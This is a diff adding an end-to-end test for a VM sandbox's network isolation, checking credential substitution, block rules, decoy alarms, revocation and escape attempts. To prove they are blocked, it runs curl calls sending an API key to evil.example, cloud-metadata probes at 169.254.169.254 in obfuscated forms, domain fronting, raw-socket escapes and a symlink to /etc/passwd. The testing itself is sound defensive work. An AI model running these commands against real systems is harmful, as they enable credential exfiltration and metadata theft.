@@ -1,0 +1,270 @@
+/** The network of a VM as its programs see it: clients, secrets that stay on the host, and every way out. */
+import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
+import { join } from "node:path";
+import { eventually, Sbx } from "../helper/sbx.ts";
+import { World } from "../helper/upstream.ts";
+
+const SECRET = "sk-ant-api03-e2eSECRETe2eSECRETe2eSECRET0123456789";
+const SHOWN = SECRET.slice(8);
+
+const RULES = `
+[profiles.rules.no-blocked]
+action = "block"
+match = 'dns.request.qname == "blocked.example"'
+reason = "nobody goes there"
+
+[profiles.rules.no-post]
+action = "block"
+match = 'http.request.host == "site.example" && http.request.method == "DELETE"'
+
+[profiles.rules.strip]
+action = "rewrite"
+match = 'http.request.host == "site.example"'
+rewrite = [{ op = "strip_header", path = "x-tracking" }]
+
+[profiles.rules.no-big-model]
+action = "block"
+match = 'model.request.model == "claude-forbidden"'
+`;
+
+const STREAM = [
+  `event: message_start\ndata: {"type":"message_start","message":{"model":"claude-sonnet-4-5","usage":{"input_tokens":11,"output_tokens":1}}}\n\n`,
+  `event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"hi"}}\n\n`,
+  `event: message_delta\ndata: {"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":7}}\n\n`,
+  `event: message_stop\ndata: {"type":"message_stop"}\n\n`,
+];
+
+async function makeRepository(folder: string): Promise<string> {
+  const git = async (...args: string[]) => {
+    const env = {
+      GIT_AUTHOR_NAME: "t",
+      GIT_AUTHOR_EMAIL: "t@t",
+      GIT_COMMITTER_NAME: "t",
+      GIT_COMMITTER_EMAIL: "t@t",
+    };
+    const { success } = await new Deno.Command("git", {
+      args,
+      cwd: folder,
+      env,
+      stdout: "null",
+      stderr: "null",
+    }).output();
+    assert(success, `git ${args.join(" ")}`);
+  };
+  await git("init", "-q", "work");
+  await Deno.writeTextFile(join(folder, "work/README"), "from git\n");
+  await git("-C", "work", "add", ".");
+  await git("-C", "work", "commit", "-qm", "one");
+  await git("clone", "-q", "--bare", "work", "repo.git");
+  await git("-C", "repo.git", "update-server-info");
+  return join(folder, "repo.git");
+}
+
+Deno.test("the network of a VM", async (t) => {
+  const folder = await Deno.makeTempDir();
+  const repository = await makeRepository(folder);
+  const world = await World.make(
+    ["site.example", "git.example", "api.anthropic.com", "evil.example"],
+    async (request, body) => {
+      const { pathname, hostname } = new URL(request.url);
+      if (pathname.startsWith("/repo.git/")) {
+        const file = await Deno.readFile(join(repository, pathname.slice("/repo.git".length))).catch(() =>
+          null
+        );
+        return new Response(file, { status: file ? 200 : 404 });
+      }
+      if (pathname === "/v1/messages" && JSON.parse(body || "{}").stream) {
+        return new Response(STREAM.join(""), { headers: { "content-type": "text/event-stream" } });
+      }
+      if (pathname === "/redirect") return Response.redirect("https://evil.example/caught", 302);
+      if (pathname === "/slow") await new Promise((resolve) => setTimeout(resolve, 30_000));
+      return Response.json({ hello: hostname, path: pathname, key: request.headers.get("x-api-key") });
+    },
+  );
+  const sbx = await Sbx.make();
+  try {
+    await sbx.ok("start");
+    await sbx.api("PATCH", "/settings/edit", {
+      "network.upstream_overrides": world.overrides,
+      "network.extra_ca_file": world.caFile,
+    });
+    const { body: { ref } } = await sbx.api("POST", "/credentials/add", {
+      provider: "anthropic",
+      secret: SECRET,
+    });
+    const { body: decoy } = await sbx.api("POST", "/credentials/add", { provider: "openai", decoy: true });
+    await sbx.ok("profile", "copy", "code", "net");
+    const profile = join(sbx.home, "profiles/net/profile.toml");
+    await Deno.writeTextFile(profile, await Deno.readTextFile(profile) + RULES);
+    await sbx.ok("create", "dev", "--profile", "net");
+    const { session_id } = JSON.parse(await sbx.ok("info", "dev", "--json"));
+    const sh = (line: string) => sbx.cli("exec", "dev", "--timeout", "60", "-c", line);
+    const events = async (family: string) =>
+      JSON.parse(await sbx.ok("events", "dev", "--family", family, "--json")).events;
+
+    await t.step("curl, python, git and Deno reach HTTPS, and trust what they see", async () => {
+      assertStringIncludes((await sh("curl -sS https://site.example/curl")).stdout, `"path":"/curl"`);
+      assertStringIncludes((await sh("curl -sS http://site.example/plain")).stdout, `"path":"/plain"`);
+      const python =
+        `python3 -c 'import urllib.request as u; print(u.urlopen("https://site.example/python").read().decode())'`;
+      assertStringIncludes((await sh(python)).stdout, `"path":"/python"`);
+      const deno = `deno eval 'console.log(await (await fetch("https://site.example/deno")).text())'`;
+      assertStringIncludes((await sh(deno)).stdout, `"path":"/deno"`);
+      const cloned = await sh("git clone -q https://git.example/repo.git /tmp/r && cat /tmp/r/README");
+      assertEquals([cloned.code, cloned.stdout], [0, "from git\n"], cloned.stderr);
+      const [first] = await events("http");
+      assertEquals([first.http.request.url, first.http.response.status], ["https://site.example/curl", 200]);
+      assertEquals(first.common.process.executable, "curl");
+      assert(first.outcome.duration_ms >= first.outcome.first_byte_ms);
+      assertStringIncludes(await sbx.ok("net", "dev"), "https://site.example/python");
+    });
+
+    await t.step(
+      "a block is 403 with the record, or NXDOMAIN; a rewrite is made before the first byte goes out",
+      async () => {
+        const refused = await sh("curl -sS -w '%{http_code}' -X DELETE https://site.example/x");
+        assert(refused.stdout.endsWith("403"));
+        const record = JSON.parse(refused.stdout.slice(0, -3));
+        assertEquals([record.decision, record.rule.id], ["block", "no-post"]);
+        assertStringIncludes(await sbx.ok("why", record.event_id), "no-post");
+        assert((await sh("getent hosts blocked.example")).code !== 0);
+        assertEquals((await events("dns")).at(-1).rule_id, "no-blocked");
+        await sh("curl -sS -H 'X-Tracking: yes' https://site.example/stripped");
+        const { headers } = world.arrived.find(({ url }) => url.endsWith("/stripped"))!;
+        assertEquals(headers["x-tracking"], undefined);
+        assert(!world.arrived.some(({ method }) => method === "DELETE"));
+      },
+    );
+
+    await t.step(
+      "a client with a ref as its key: the upstream sees the secret, and nothing in the guest does",
+      async () => {
+        const call = (model: string) =>
+          `curl -sS https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" ` +
+          `-d '{"model":"${model}","stream":true,"messages":[{"role":"user","content":"hi"}]}'`;
+        assertEquals((await sh("echo $ANTHROPIC_API_KEY")).stdout, `${ref}\n`);
+        const streamed = await sh(call("claude-sonnet-4-5"));
+        assertStringIncludes(streamed.stdout, "message_stop");
+        assertEquals(world.arrived.at(-1)!.headers["x-api-key"], SECRET);
+        const echoed = await sh(`curl -sS https://api.anthropic.com/echo -H "x-api-key: $ANTHROPIC_API_KEY"`);
+        assertEquals(JSON.parse(echoed.stdout).key, ref, "an answer that shows the secret shows the ref");
+        const [model] = await events("model");
+        assertEquals(model.model.request.model, "claude-sonnet-4-5");
+        const { input_tokens, output_tokens, stop_reason, estimated_cost_micros } = model.model.response;
+        assertEquals([input_tokens, output_tokens, stop_reason], [11, 7, "end_turn"]);
+        assert(estimated_cost_micros > 0);
+        assertStringIncludes((await sh(call("claude-forbidden"))).stdout, "no-big-model");
+      },
+    );
+
+    await t.step(
+      "a ref goes to no other host, over no redirect, after no revocation; a decoy raises an alarm",
+      async () => {
+        const header = `-H "x-api-key: $ANTHROPIC_API_KEY"`;
+        assertStringIncludes(
+          (await sh(`curl -sS https://evil.example/ ${header}`)).stdout,
+          "credential.denied",
+        );
+        await sh(`curl -sSL https://api.anthropic.com/redirect ${header}`);
+        await sh(`curl -sS http://api.anthropic.com/plain ${header}`);
+        await sh(`curl -sS https://site.example/?key=$ANTHROPIC_API_KEY`);
+        for (const { url, headers } of world.arrived) {
+          if (!url.includes("api.anthropic.com")) {
+            assert(!JSON.stringify([url, headers]).includes(SHOWN), url);
+          }
+          assert(!(url.startsWith("http://api.anthropic.com") && headers["x-api-key"] === SECRET));
+        }
+        await sh(`curl -sS https://api.openai.com/ -H "authorization: Bearer ${decoy.ref}"`);
+        const slow = sh(`curl -sS https://api.anthropic.com/slow ${header}`);
+        await eventually("it is under way", () => world.arrived.some(({ url }) => url.endsWith("/slow")));
+        await sbx.ok("credentials", "revoke", ref);
+        assert(!(await slow).stdout.includes("hello"), "a request in flight is broken off");
+        assertStringIncludes(
+          (await sh(`curl -sS https://api.anthropic.com/late ${header}`)).stdout,
+          "credential.denied",
+        );
+        assertEquals(
+          (await events("credential")).some(({ credential }: any) =>
+            credential.substitution.outcome === "injected"
+          ),
+          true,
+        );
+      },
+    );
+
+    await t.step("there is no other way out, and each try that reaches the host has a record", async () => {
+      const recorded = async (what: string, line: string, part: RegExp) => {
+        const ran = await sh(line);
+        const denied = JSON.parse(await sbx.ok("events", "dev", "--denied", "--json")).events;
+        assertMatch(JSON.stringify(denied.at(-1)), part, `${what}: ${ran.stdout}${ran.stderr}`);
+      };
+      const metadata = /block-private-http.*|guard-/;
+      await recorded("metadata", "curl -sS -m 9 http://169.254.169.254/latest", metadata);
+      await recorded(
+        "metadata, decimal",
+        "curl -sS -m 9 -H 'Host: 2852039166' http://169.254.169.254/",
+        metadata,
+      );
+      await recorded("metadata, hex", "curl -sS -m 9 http://0xa9fea9fe/", metadata);
+      await recorded(
+        "metadata, mapped",
+        "curl -sS -g -m 9 -H 'Host: [::ffff:169.254.169.254]' http://169.254.169.254/",
+        metadata,
+      );
+      await recorded("IPv6", "curl -sS -g -m 9 'http://[fd00:ec2::254]/'", metadata);
+      await recorded(
+        "raw TCP",
+        `python3 -c 'import socket; s = socket.create_connection(("site.example", 22), 9); s.sendall(b"SSH-2.0-x\\r\\n"); s.recv(9)'`,
+        /block-raw-tcp/,
+      );
+      await recorded(
+        "another resolver, UDP",
+        `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(9); s.sendto(bytes.fromhex("123401000001000000000000") + b"\\7blocked\\7example\\0\\0\\1\\0\\1", ("8.8.8.8", 53)); print(s.recv(512))'`,
+        /no-blocked/,
+      );
+      await recorded(
+        "domain fronting",
+        "curl -sS -m 9 -H 'Host: evil.example' https://site.example/",
+        /guard-domain-fronting/,
+      );
+      const fails = async (what: string, line: string) => {
+        const { code, stdout } = await sh(line);
+        assert(code !== 0 && code !== 124, `${what} got out, or hung: ${code} ${stdout}`);
+      };
+      await fails(
+        "UDP",
+        `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 123)); s.settimeout(9); s.send(b"x"); s.recv(1)'`,
+      );
+      await fails(
+        "raw ICMP",
+        `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(9); s.sendto(bytes.fromhex("0800f7fd00010001"), ("8.8.8.8", 0)); s.recv(1)'`,
+      );
+      await fails(
+        "another VM",
+        `python3 -c 'import socket; s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(9); s.connect((4, 5000))'`,
+      );
+      await fails(
+        "another port of the host",
+        `python3 -c 'import socket; s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(9); s.connect((2, 22)); s.send(b"x"); assert s.recv(1)'`,
+      );
+      await sh("ln -s /etc/passwd /workspace/link");
+      assertEquals((await sbx.fetch("/vms/dev/files/content?path=link")).status, 403);
+    });
+
+    await t.step("the secret is nowhere but in the store", async () => {
+      // Named on standard input: a command line is an event, and would be found itself.
+      const command =
+        "cat >/dev/shm/pattern; grep -rlaF -f /dev/shm/pattern /root /tmp /etc /workspace /run /proc/[0-9]*/environ 2>/dev/null; echo end";
+      const { body: found } = await sbx.api("POST", "/vms/dev/exec", { command, stdin: SHOWN });
+      assertEquals(found.stdout, "end\n");
+      await sbx.ok("delete", "dev");
+      const { stdout } = await new Deno.Command("grep", { args: ["-rlaF", SHOWN, sbx.home] }).output();
+      assertEquals(new TextDecoder().decode(stdout), "");
+      assertStringIncludes(await sbx.ok("verify", session_id), "every one is as it was recorded");
+    });
+  } finally {
+    await sbx.dispose();
+    await world.close();
+    await Deno.remove(folder, { recursive: true });
+  }
+});
